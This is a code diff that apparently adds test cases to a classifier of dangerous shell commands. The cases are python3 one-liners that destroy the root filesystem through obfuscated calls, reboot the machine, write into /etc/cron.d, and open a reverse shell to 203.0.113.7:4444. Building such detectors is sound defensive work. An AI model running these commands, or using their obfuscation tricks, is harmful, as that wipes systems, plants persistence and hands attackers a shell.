@@ -109,6 +109,12 @@ DATA_FLOW = [
     ('python3 -c \'import os; c = "hs/nib/"[::-1]; os.system(c)\'', M, "code.shell", ("/bin/sh",)),
     ("python3 -c 'import os\nif x:\n    c = \"ls\"\nelse:\n    c = \"rm -rf /\"\nos.system(c)'", C, None, ()),
     ("python3 -c 'from subprocess import *; check_call([\"rm\", \"-rf\", \"/boot\"])'", C, None, ("/boot",)),
+    ('python3 -c \'import os as o; f = o.system; f("rm -rf /")\'', C, "shell.rm.recursive.root", ()),
+    ('python3 -c \'exec(compile("import os;os.system(\\"reboot\\")", "x", "exec"))\'', C, None, ("reboot",)),
+    ('python3 -c \'import os; os.system(chr(114)+chr(109)+" -rf /")\'', C, "shell.rm.recursive.root", ()),
+    ("python3 -c 'import os\nfor c in [\"ls\", \"rm -rf /\"]:\n    os.system(c)'", C, None, ()),
+    ('python3 -c \'from pathlib import Path; Path("/etc").joinpath("cron.d", "x").write_text("x")\'', H,
+     "shell.write.system", ("/etc/cron.d/x",)),
     ('python3 -c \'import socket as so; h = "203.0.113.7"; p = 4444; s = so.socket(); s.connect((h, p)); '
      'import os; os.dup2(s.fileno(), 0); os.system("/bin/sh -i")\'', H, "code.remote_shell", ("203.0.113.7:4444",)),
 ]
